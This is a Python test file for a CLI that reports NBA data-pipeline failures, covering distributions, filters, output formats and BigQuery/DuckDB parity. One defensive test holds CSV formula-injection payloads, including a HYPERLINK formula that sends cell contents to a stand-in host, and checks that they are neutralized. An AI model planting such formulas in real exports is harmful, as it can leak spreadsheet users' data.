"""`nba-failures report`: the verification queries on the real pipeline's failure store, checked against the
store read with plain DuckDB; the same report from BigQuery (emulator); the CLI end to end."""

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys

import pandas as pd
import pytest

from nba_failures import settings
from nba_failures.failures.store import FAILURE_STORES
from nba_failures.failures.views import (
    DISTRIBUTION_COLUMNS,
    build_report,
    correctable_failures,
    distribution,
    filter_failures,
    read_store,
    recent_failures,
)
from nba_failures.reporting import render
from nba_failures.warehouse.schema import Mode
from nba_failures_tests.dashboard.store_data import (
    FIRST,
    LAST,
    MISSING_GAME,
    UNREGISTERED_PLAYER,
)


class RecordingWarehouse:
    """Passes reads through and remembers their parameters."""

    def __init__(self, inner):
        self.inner, self.calls = inner, []

    def session(self):
        return self.inner.session()

    def read(self, table, start=None, end=None, where_in=None, columns=None):
        self.calls.append((table.qualified_name, start, end, where_in, columns))
        return self.inner.read(table, start, end, where_in, columns)


@pytest.mark.slow(seconds=35)  # the module's backfill fixture runs for the first test
def test_distribution_counts_per_processor_and_category(failure_frame, stored_failures):
    table = distribution(failure_frame)
    assert list(table.columns) == list(DISTRIBUTION_COLUMNS)
    expected = stored_failures.groupby(["processor_name", "failure_category"]).size()
    assert dict(zip(zip(table["processor_name"], table["failure_category"]), table["failures"])) == expected.to_dict()
    assert table["failures"].sum() == len(stored_failures)
    row = table.set_index(["processor_name", "failure_category"]).loc[("player_game_summary", "REGISTRY_LOOKUP_FAILED")]
    assert (row["failures"], row["correctable"], row["open"], row["resolved"]) == (2, 2, 0, 2)
    raw = table.set_index(["processor_name", "failure_category"]).loc[("nbac_gamebook_player_stats", "MISSING_RAW_DATA")]
    assert (raw["failures"], raw["open"], raw["first_date"], raw["last_date"]) == (1, 1, FIRST, FIRST)
    counted = table[["correctable", "open", "resolved", "permanent", "expected"]].sum()
    assert counted["open"] + counted["resolved"] + counted["permanent"] + counted["expected"] == len(stored_failures)


def test_recent_and_correctable_lists(failure_frame, stored_failures):
    recent = recent_failures(failure_frame, limit=15)
    assert len(recent) == 15 and (recent["analysis_date"] == LAST).all()
    assert recent_failures(failure_frame, limit=None)["analysis_date"].is_monotonic_decreasing

    open_fixable = correctable_failures(failure_frame, limit=None)
    expected = stored_failures[
        stored_failures["is_correctable"] & stored_failures["resolution_status"].isin(["UNRESOLVED", "RETRY_REQUESTED"])
    ]
    assert len(open_fixable) == len(expected) == 5
    assert MISSING_GAME in set(open_fixable["entity_id"]) and UNREGISTERED_PLAYER not in set(open_fixable["entity_id"])


def test_filters_go_to_the_warehouse_as_parameters(failure_store, failure_frame):
    recording = RecordingWarehouse(failure_store.warehouse)
    since = dt.date(2023, 1, 11)
    filtered = read_store(
        recording, since=since, processors=["player_game_summary", "team_offense_game_summary"], statuses=["RESOLVED"]
    )
    assert [call[0] for call in recording.calls] == [store.table.qualified_name for store in FAILURE_STORES]
    assert all(
        call[1] == since
        and call[3] == {"processor_name": ["player_game_summary", "team_offense_game_summary"], "resolution_status": ["RESOLVED"]}
        for call in recording.calls
    )
    # Only what the report shows is read: no list column (their conversion is most of a whole-store read's time).
    for (name, *_, columns), store in zip(recording.calls, FAILURE_STORES):
        listed = {column.name for column in store.table.columns if column.mode is Mode.REPEATED}
        assert columns and not listed & set(columns), name
        assert store.date_column in columns and "resolution_status" in columns
    # Jan 12 is the only day of [Jan 11, ..] the player played: one resolved failure.
    assert len(filtered) == 1 and filtered.iloc[0]["entity_id"] == UNREGISTERED_PLAYER
    same = filter_failures(
        failure_frame, since=since, processors=["player_game_summary", "team_offense_game_summary"], statuses=["RESOLVED"]
    )
    assert sorted(same["failure_key"]) == sorted(filtered["failure_key"])

    by_category = read_store(failure_store.warehouse, categories=["MISSING_RAW_DATA"])
    assert set(by_category["failure_category"]) == {"MISSING_RAW_DATA"} and len(by_category) == 5


def test_progress_reports_each_table(failure_store):
    seen = []
    read_store(failure_store.warehouse, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(0, 3), (1, 3), (2, 3), (3, 3)]


def test_render_formats(failure_frame):
    sections = build_report(failure_frame, "all", limit=5)
    assert list(sections) == ["distribution", "recent", "correctable", "permanent"]
    assert "waiting_for" in sections["correctable"] and "permanent_cause" in sections["permanent"]

    as_json = json.loads(render(sections, "json", len(failure_frame), {"since": None}))
    assert as_json["total_failures"] == len(failure_frame)
    assert sum(row["failures"] for row in as_json["distribution"]) == len(failure_frame)
    assert len(as_json["recent"]) == 5 and as_json["recent"][0]["analysis_date"].startswith(LAST.isoformat())

    text = render(sections, "table", len(failure_frame))
    assert "and what each waits for" in text and "Failures given up on" in text
    assert "Failures by processor and category" in text and "REGISTRY_LOOKUP_FAILED" in text and MISSING_GAME in text

    csv = pd.read_csv(io.StringIO(render(build_report(failure_frame, "distribution"), "csv", len(failure_frame))))
    assert csv["failures"].sum() == len(failure_frame) and list(csv.columns) == list(DISTRIBUTION_COLUMNS)
    with pytest.raises(ValueError, match="one section"):
        render(sections, "csv", len(failure_frame))


def test_csv_cells_that_would_run_as_formulas_are_neutralized():
    """CSV formula injection: landed text such as `=HYPERLINK(...)` reaches entity ids and reasons; in the CSV every
    cell a spreadsheet would evaluate starts with a quote, other cells, numbers and the JSON output are as stored."""
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    recent = pd.DataFrame(
        {
            "entity_id": [*hostile, "joshgiddey"],
            "failure_reason": ["gamebook/2023-01-15/x.csv: line 2", *hostile],
            "retry_attempts": [-1, 0, 1, 2, 3, 4, 5],
            "analysis_date": [dt.date(2023, 1, 15)] * 7,
        }
    )
    rows = list(csv.DictReader(io.StringIO(render({"recent": recent}, "csv", len(recent)), newline="")))
    assert [row["entity_id"] for row in rows] == ["'" + value for value in hostile] + ["joshgiddey"]
    assert [row["failure_reason"] for row in rows] == ["gamebook/2023-01-15/x.csv: line 2"] + ["'" + value for value in hostile]
    assert [row["retry_attempts"] for row in rows] == ["-1", "0", "1", "2", "3", "4", "5"]
    assert rows[0]["analysis_date"] == "2023-01-15"
    as_json = json.loads(render({"recent": recent}, "json", len(recent)))
    assert [row["entity_id"] for row in as_json["recent"]][:6] == hostile


def test_report_from_bigquery_matches_duckdb(failure_store, failure_frame, bigquery_warehouse):
    """The same store loaded into the BigQuery emulator gives the same report."""
    for store in FAILURE_STORES:
        rows = failure_store.warehouse.read(store.table)
        if len(rows):
            bigquery_warehouse.replace(store.table, rows, FIRST, LAST + dt.timedelta(days=1))
    from_bigquery = read_store(bigquery_warehouse)
    pd.testing.assert_frame_equal(distribution(from_bigquery), distribution(failure_frame), check_dtype=False)
    filtered = read_store(
        bigquery_warehouse, since=dt.date(2023, 1, 11), processors=["player_game_summary"], statuses=["RESOLVED"]
    )
    assert filtered["entity_id"].tolist() == [UNREGISTERED_PLAYER]


def _cli(failure_store, season_landing, *args: str) -> subprocess.CompletedProcess:
    env = {
        **os.environ,
        settings.DUCKDB_PATH_ENV: str(failure_store.warehouse_path),
        settings.LANDING_DIR_ENV: str(season_landing),
        settings.WAREHOUSE_ENV: "duckdb",
    }
    return subprocess.run(
        [sys.executable, "-m", "nba_failures.cli", "report", *args], env=env, capture_output=True, text=True, timeout=120
    )


def test_cli_report(failure_store, season_landing, failure_frame):
    done = _cli(
        failure_store,
        season_landing,
        "--since",
        "2023-01-10",
        "--processor",
        "player_game_summary",
        "--format",
        "json",
        "--progress",
    )
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    expected = filter_failures(failure_frame, since=dt.date(2023, 1, 10), processors=["player_game_summary"])
    assert report["total_failures"] == len(expected) == 2
    assert report["filters"]["processor"] == ["player_game_summary"]
    assert "reading failure store: 3/3 tables" in done.stderr

    done = _cli(
        failure_store, season_landing, "--category", "missing_raw_data", "--view", "recent", "--limit", "0", "--format", "csv"
    )
    assert done.returncode == 0, done.stderr
    rows = pd.read_csv(io.StringIO(done.stdout))
    assert len(rows) == 5 and set(rows["failure_category"]) == {"MISSING_RAW_DATA"}

    done = _cli(failure_store, season_landing, "--status", "EXPECTED")
    assert done.returncode == 0 and "Failures by processor and category" in done.stdout and "INSUFFICIENT_DATA" in done.stdout

    assert _cli(failure_store, season_landing, "--format", "csv").returncode == 0  # csv defaults to the distribution
    assert _cli(failure_store, season_landing, "--category", "NOT_A_CATEGORY").returncode == 2
